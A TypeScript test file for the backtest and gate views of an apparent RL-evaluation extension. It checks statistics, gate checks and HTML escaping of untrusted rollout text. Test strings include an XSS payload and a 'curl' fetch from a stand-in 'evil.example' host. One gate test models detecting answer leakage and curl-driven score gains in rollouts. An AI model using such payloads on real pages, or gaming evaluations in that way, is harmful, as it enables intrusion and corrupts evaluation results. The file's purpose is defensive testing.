import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { BacktestReport } from '../../src/core/backtest/backtest';
import type { GateReport } from '../../src/core/gate';
import { computeStats, type ScoredRollout } from '../../src/core/backtest/report';
import { comparePaired } from '../../src/core/backtest/stats';
import type { LedgerEntry } from '../../src/core/harness/ledger';
import { backtestView, gateText, gateView, humanGateView, interval } from '../../src/extension/webviews/backtest/view';
import { backtestEvidence, evidenceState } from '../../src/extension/webviews/version/evidence';
import { renderWebviewHtml } from '../../src/viewer/html';

/** Groups of four rollouts: two correct, two wrong; the candidate's reward adds a continuous term. */
function rows(tasks: number, opts: { hostileTask?: string; unscoredMode?: boolean } = {}): ScoredRollout[] {
  const out: ScoredRollout[] = [];
  let id = 1;
  for (let t = 0; t < tasks; t++) {
    for (let k = 0; k < 4; k++) {
      const correct = t % 3 === 0 ? 1 : k < 2 ? 1 : 0; // every third group all correct: dead before
      out.push({
        id: id++,
        task: t === 0 && opts.hostileTask ? opts.hostileTask : `task-${t}`,
        group: `run/g${t}`,
        correctness: correct,
        failureMode: opts.unscoredMode && t === 1 ? 'unscored' : correct ? 'success' : 'wrong_answer',
        before: { score: opts.unscoredMode && t === 1 ? null : correct, error: opts.unscoredMode && t === 1 ? 'boom' : null, truncated: false, filtered: false },
        after: { score: opts.unscoredMode && t === 1 ? null : correct + 0.01 * k, error: opts.unscoredMode && t === 1 ? 'boom' : null, truncated: false, filtered: false },
      });
    }
  }
  return out;
}

function report(stats: ReturnType<typeof computeStats> | null, over: Partial<BacktestReport> = {}): BacktestReport {
  return {
    schema: 1,
    version: 'v2',
    against: 'v1',
    commits: { version: 'a'.repeat(40), against: 'b'.repeat(40) },
    kinds: ['reward_rescore'],
    changed: ['reward/compute_score.py'],
    notReplayable: null,
    selector: { version: 'v1' },
    stats,
    metricReplays: [],
    verdict: 'pass',
    reasons: ['all 1 invariant(s) hold'],
    summary: 'v2 vs v1 [reward_rescore]: PASS',
    wallSeconds: 1.25,
    throughput: 100,
    isolation: null,
    ...over,
  };
}

describe('Backtest Diff view state', () => {
  it('labels an interval by what the data can tell: within noise on few tasks, a direction on many', () => {
    const few = interval('score', comparePaired(new Map([['a', 0], ['b', 0], ['c', 0]]), new Map([['a', 1], ['b', 0], ['c', 0]])));
    assert.equal(few.withinNoise, true);
    assert.match(few.label, /within noise$/);
    assert.match(few.label, /\(95% CI, 3 tasks, p=1\.000\)/);
    const n = 400;
    const many = interval('score', comparePaired(new Map(Array.from({ length: n }, (_, i) => [`t${i}`, i % 10 < 4 ? 1 : 0])), new Map(Array.from({ length: n }, (_, i) => [`t${i}`, i % 10 < 5 ? 1 : 0]))));
    assert.equal(many.direction, 'up');
    assert.match(many.label, /^\+0\.100 \[\+0\.\d{3}, \+0\.\d{3}\] \(95% CI, 400 tasks\) — up beyond noise$/);
    const none = interval('score', comparePaired(new Map(), new Map()));
    assert.equal(none.label, 'no task has a value on both sides');
    assert.equal(none.delta, null, 'NaN becomes null: the state travels as JSON');
  });

  it('carries every section of the report, JSON-safe, with the histogram on shared edges', () => {
    const stats = computeStats(rows(30, { unscoredMode: true }), [{ check: 'ordering_violations', max: 0 }]);
    const v = backtestView(report(stats));
    // JSON round trip: nothing is lost (no NaN, no undefined), so the first render equals the live one.
    assert.deepEqual(JSON.parse(JSON.stringify(v)), v);
    const s = v.stats!;
    assert.equal(s.rollouts, 120);
    assert.equal(s.groups, 30);
    assert.deepEqual(s.intervals.map((i) => i.name), ['score (mean per task)', 'dead-group share (per task)', 'effective data share (per task)']);
    assert.equal(s.intervals[0]!.direction, 'up');
    assert.deepEqual(s.intervals.map((i) => i.higherIsBetter), [true, false, true], 'fewer dead groups is good news');
    // Every third group was all-correct (dead); the continuous term revives all of them.
    assert.equal(s.deadGroups.before, 11, 'the 10 all-correct groups and the unscored one');
    assert.equal(s.deadGroups.revived, 10);
    assert.equal(s.histogram.before.reduce((a, b) => a + b, 0), 116, 'the 4 unscored rollouts are in no bin');
    assert.equal(s.histogram.max, Math.max(...s.histogram.before, ...s.histogram.after));
    assert.deepEqual(s.histogram.edges, [0, 1.03]);
    const unscored = s.failureModes.find((m) => m.mode === 'unscored')!;
    assert.deepEqual([unscored.before, unscored.after, unscored.delta], [null, null, null]);
    assert.equal(s.errors.before, 4);
    assert.ok(s.flips.length > 0 && s.flips.every((f) => f.rollouts.length === 4));
    assert.deepEqual(v.invariants.map((i) => i.passed), [true]);
  });

  it('a report with nothing re-scored (not replayable) has no stats section', () => {
    const v = backtestView(report(null, { verdict: 'not_replayable', kinds: ['not_replayable'], notReplayable: { paths: ['env/config.json'], needs: 'run the version' }, reasons: ['not replayable — needs a run'] }));
    assert.equal(v.stats, null);
    assert.equal(v.verdict, 'not_replayable');
    assert.deepEqual(v.notReplayable?.paths, ['env/config.json']);
  });

  it('untrusted task text stays data: the page markup never contains it', () => {
    const hostile = '</script><img src=x onerror=alert(1)>\u001b[31mred\u001b[0m';
    const v = backtestView(report(computeStats(rows(6, { hostileTask: hostile }))));
    assert.ok(v.stats!.flips.some((f) => f.task === hostile), 'the hostile task is carried as it is (the webview escapes and cleans it)');
    const page = renderWebviewHtml({ app: 'backtest', title: 'Backtest', state: { status: 'done', kind: 'backtest', title: 'x', backtest: v }, cspSource: 'vscode-resource:', nonce: 'n0nce', asset: (a) => a });
    assert.doesNotMatch(page, /<img src=x/);
    assert.doesNotMatch(page, /<\/script><img/);
    assert.match(page, /<evo-backtest-app><\/evo-backtest-app>/);
  });
});

describe('gate result and human gate views', () => {
  const gate: GateReport = {
    schema: 1,
    version: 'v3',
    baseline: 'v1',
    decision: 'needs_human',
    checks: [
      { check: 'frozen paths untouched', category: 'validity', passed: true, detail: '1 changed file(s), none frozen' },
      { check: 'primary pass_rate non-regression', category: 'primary', passed: null, detail: 'no eval rollouts of the baseline' },
      { check: 'side effects', category: 'side_effect', passed: false, detail: 'truncation 0.02 → 0.3' },
    ],
    comparisons: { pass_rate: comparePaired(new Map([['a', 0], ['b', 1]]), new Map([['a', 1], ['b', 1]])), git_history_share: comparePaired(new Map([['a', 0]]), new Map([['a', 1]])) },
    evalRollouts: { version: 8, baseline: 0, split: null },
    decidedAt: '2026-01-01T00:00:00.000Z',
  };

  it('keeps the three-valued checks (✓ ✗ ?) and every reason', () => {
    const g = gateView(gate, 'evaluated');
    assert.deepEqual(g.checks.map((c) => c.passed), [true, null, false]);
    assert.deepEqual(g.checks.map((c) => c.category), ['validity', 'primary', 'side_effect']);
    assert.deepEqual(g.intervals.map((i) => [i.name, i.higherIsBetter]), [['pass_rate', true], ['git_history_share', false]], 'a rising leak share is bad news');
    assert.equal(g.state, 'evaluated');
    assert.equal(gateText(gate), '✓ frozen paths untouched: 1 changed file(s), none frozen\n? primary pass_rate non-regression: no eval rollouts of the baseline\n✗ side effects: truncation 0.02 → 0.3');
    assert.deepEqual(JSON.parse(JSON.stringify(g)), g);
  });

  it('shows how the gain was obtained: the answer seen before written (channel, turn), behaviour concentrated in the flips, an empty diff that moved', () => {
    const hostile = '</code><img src=x onerror=alert(1)> curl -sL https://evil.example/fix.diff';
    const leaking: GateReport = {
      ...gate,
      decision: 'reject',
      checks: [...gate.checks, { check: 'nothing changed, yet it moved', category: 'validity', passed: null, detail: "v3's diff against 0123456789 is empty, yet pass_rate 0.5 → 0.7" }],
      leaks: [{ rollout: 42, prompt: 'django__django-1', turn: 1, channel: hostile }, { rollout: 43, prompt: 'django__django-2', turn: 0, channel: 'environment message' }],
      flips: { flipped: 24, flipTrajectories: 24, ids: [], baselineTrajectories: 120, unflippedTrajectories: 96, answerInContextCount: 22, answerInContext: [], concentrated: [{ behaviour: 'runs curl', flips: 24, baseline: 0, unflipped: 1 }] },
    };
    const o = gateView(leaking, 'evaluated').howObtained;
    assert.deepEqual(o.answerInContext.map((l) => [l.rollout, l.turn, l.channel]), [[42, 1, hostile], [43, 0, 'environment message']]);
    assert.deepEqual(o.flips, { flipped: 24, trajectories: 24, baseline: 120, unflipped: 96, shown: 22, concentrated: [{ behaviour: 'runs curl', flips: 24, baseline: 0, unflipped: 1 }] });
    assert.match(o.emptyDiffMoved!, /diff against 0123456789 is empty/);
    // A report recorded before this evidence existed still renders: nothing to show.
    assert.deepEqual(gateView(gate, 'evaluated').howObtained, { answerInContext: [], flips: null, emptyDiffMoved: null });
    const page = renderWebviewHtml({ app: 'backtest', title: 'Gate', state: { status: 'done', kind: 'gate', title: 'x', gate: gateView(leaking, 'evaluated') }, cspSource: 'vscode-resource:', nonce: 'n0nce', asset: (a) => a });
    assert.doesNotMatch(page, /<img src=x/, 'the channel is rollout text: data, never markup');
  });

  it('a human gate shows its summary and evidence, and its answer once given', () => {
    const h = humanGateView({ id: 'v1-design', gate: 'design', version: 'v1', summary: 'apply skill x', evidence: 'line 1\nline 2', askedAt: '2026-01-01T00:00:00.000Z' });
    assert.equal(h.answer, null);
    assert.equal(humanGateView({ id: h.id, gate: 'design', version: 'v1', summary: h.summary, evidence: h.evidence, askedAt: h.askedAt }, 'APPROVE').answer, 'APPROVE');
  });

  it('the version evidence panel reads the recorded report and the undecided checks of a gate', () => {
    const stats = computeStats(rows(9));
    const data = JSON.parse(JSON.stringify(report(stats))) as unknown;
    const b = backtestEvidence('v2 vs v1: PASS', null, '2026-01-01T00:00:00.000Z', data);
    assert.equal(b.verdict, 'pass');
    assert.equal(b.against, 'v1');
    assert.equal(b.hasReport, true);
    assert.deepEqual(b.figures.map((f) => f.label), ['dead groups', 'new ordering violations', 'successes', 'score Δ (per task)']);
    assert.equal(b.figures[0]!.value, '3 → 0 of 9 (revived 3)');
    // A note or a hand-edited ledger: no report, no figures, no crash.
    const note = backtestEvidence('replayed by hand', 'notes/bt.md', '2026-01-01T00:00:00.000Z', { verdict: 7, stats: 'x' });
    assert.deepEqual([note.verdict, note.hasReport, note.figures, note.reasons], [null, false, [], []]);

    const entry = {
      schema: 1, id: 'v3', branch: 'evo/v3-x', parent: 'v1', base: 'b', commit: 'c', status: 'evaluated', layer: 'reward', createdAt: '', hypothesis: null, intervention: null,
      metrics: {}, primaryMetric: null, transitions: [],
      decision: { version: 'v3', gate: 'promotion', decision: 'needs_human', decidedAt: gate.decidedAt, decidedBy: 'gate', reasons: [{ check: 'primary', passed: false, detail: 'UNDECIDED: no eval rollouts of the baseline' }, { check: 'side effects', passed: false, detail: 'truncation up' }] },
    } as unknown as LedgerEntry;
    const ev = evidenceState(entry, null, 'v1');
    assert.deepEqual(ev.gate?.reasons, [{ check: 'primary', passed: null, detail: 'no eval rollouts of the baseline' }, { check: 'side effects', passed: false, detail: 'truncation up' }]);
  });
});
